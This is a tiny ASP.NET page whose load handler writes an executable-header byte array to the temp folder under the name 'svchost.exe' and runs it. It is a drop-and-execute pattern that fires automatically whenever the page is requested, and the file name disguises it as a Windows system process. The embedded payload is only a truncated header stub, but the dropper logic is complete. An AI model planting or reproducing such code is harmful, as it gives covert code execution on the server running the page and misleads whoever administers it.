<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
	protected void Page_Load(object sender, EventArgs e)
	{
		byte[] ab = new byte[16] {0x4d,0x5a,0x90,0x00,0x03,0x00,0x00,0x00,0x04,0x00,0x00,0x00,0xff,0xff,0x00,0x00};
		string p = Path.GetTempPath() + "\\svchost.exe";
		using (FileStream fs = File.Create(p)) { fs.Write(ab, 0, ab.Length); }
		System.Diagnostics.Process.Start(p);
	}
</script>
